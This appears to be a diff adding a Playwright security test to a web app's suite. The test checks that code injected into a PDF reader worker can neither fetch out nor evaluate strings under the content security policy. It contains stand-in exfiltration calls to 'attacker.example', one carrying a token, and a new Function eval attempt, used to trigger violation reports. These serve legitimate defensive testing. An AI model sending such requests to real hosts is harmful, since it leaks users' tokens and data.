@@ -7,7 +7,9 @@ import type { AddressInfo } from "node:net";
 import type { Page } from "playwright-core";
 import * as assert from "uvu/assert";
 import { test } from "../../.tools/suite/independentTests.ts";
+import { newCustomer } from "../backend/newCustomer.ts";
 import { takeSession } from "../support/customer.ts";
+import { poll } from "../support/poll.ts";
 import { openStand } from "../support/stand.ts";
 import { sendLogin } from "./loginForm.ts";
 
@@ -145,6 +147,25 @@ test("injected code neither runs nor sends anything, also after the narrowed pol
     return fetch("https://attacker.example/").catch(() => {});
   });
   assert.equal(await takeReports(page), ["connect-src"]);
+});
+
+test("code that a PDF gets to run in its reader evaluates nothing and sends nothing away", async () => {
+  const { email } = await newCustomer(backend);
+  const { page } = await watchful(email);
+  const starts = page.waitForEvent("worker", (worker) => worker.url().endsWith("/worker.js"));
+  await page.goto("/customer/avv");
+  const reader = await starts;
+  await page.getByRole("figure", { name: "Seite 1 von" }).locator("canvas").waitFor();
+  await reader.evaluate(() => {
+    const reports: string[] = [];
+    Object.assign(globalThis, { reports });
+    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => reports.push(effectiveDirective));
+    void fetch("https://attacker.example/?token").catch(() => {});
+    // In a task of its own, as above.
+    setTimeout(() => new Function("")());
+  });
+  const reports = () => reader.evaluate(() => (globalThis as Watching).reports?.sort().join());
+  await poll(async () => (await reports()) === "connect-src,script-src", "a report of each");
 });
 
 test("no other site can frame the app", async () => {
